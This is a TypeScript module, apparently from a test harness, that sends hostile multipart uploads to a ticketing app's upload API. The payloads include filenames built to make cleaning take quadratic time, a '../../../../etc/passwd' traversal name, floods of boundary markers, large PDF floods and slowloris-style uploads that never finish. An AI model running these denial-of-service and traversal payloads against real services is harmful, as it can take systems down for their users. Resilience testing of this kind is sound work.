import { request } from 'node:http'
import { setTimeout as pause } from 'node:timers/promises'
import type { Attack, World } from '../attack.ts'
import { anyNetwork, flood, Neighbour, neighbours } from '../network.ts'

const boundary = 'hostile'
const headers = { 'content-type': `multipart/form-data; boundary=${boundary}` }
const part = (name: string, content: string) =>
  `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="${name}"\r\nContent-Type: text/plain\r\n\r\n${content}\r\n`
const whole = (parts: string[]) => `${parts.join('')}--${boundary}--\r\n`

/** Names of files whose cleaning took time with the square of their length (C17). */
export const names: Attack = async ({ url, token, ticket, signal }) => {
  const from = new Neighbour(url)
  from.token = token
  const kinds = [
    `a${'.'.repeat(3_800)}x.txt`,
    `a${' '.repeat(79_000)}x.txt`,
    `${'\u0301'.repeat(1_900)}.png`,
    '../../../../etc/passwd',
    `${'a.'.repeat(1_900)}pdf`,
  ]
  await flood(signal, 10, (turn) => {
    const name = kinds[turn % kinds.length] ?? ''
    return from.throw(`/api/tickets/${ticket}/upload`, {
      headers,
      body: whole(Array(5).fill(part(name, 'hello'))),
    })
  })
}

/** Forms of guests that are nothing but boundaries, each of which made the parser begin another part. */
export const boundaries: Attack = async ({ url, signal }) => {
  const places = neighbours(url)
  const files = Array.from({ length: 5 }, (_, n) => part(`${n}.txt`, 'x'.repeat(20_000)))
  const body = files.join('') + `\r\n--${boundary}`.repeat(200_000)
  await flood(signal, 12, (turn) => {
    const from = places[turn % places.length] ?? new Neighbour(url)
    return from.throw('/api/request-files', { headers, body })
  })
}

/** Many uploads of one person at once, whole ones and ones that never end (F10, C3). */
export const uploads: Attack = async (world) => {
  const from = new Neighbour(world.url)
  from.token = world.token
  const pdf = `%PDF-1.4\n${'0'.repeat(2_000_000)}\n%%EOF`
  const body = whole(Array.from({ length: 5 }, (_, n) => part(`${n}.pdf`, pdf)))
  const unfinished = Array.from({ length: 60 }, () => endless(world))
  await flood(world.signal, 10, () => from.throw(`/api/tickets/${world.ticket}/upload`, { headers, body }))
  await Promise.all(unfinished)
}

async function endless({ url, token, ticket, signal }: World): Promise<void> {
  while (!signal.aborted) {
    const asking = request(`${url}/api/tickets/${ticket}/upload`, {
      method: 'POST',
      localAddress: anyNetwork(),
      headers: { ...headers, authorization: `Bearer ${token}`, 'content-length': 10_000_000 },
    })
    asking.on('error', () => undefined).on('response', (answer) => answer.resume())
    asking.write(part('big.txt', 'x'.repeat(3_000_000)).slice(0, -2))
    await pause(5_000)
    asking.destroy()
  }
}
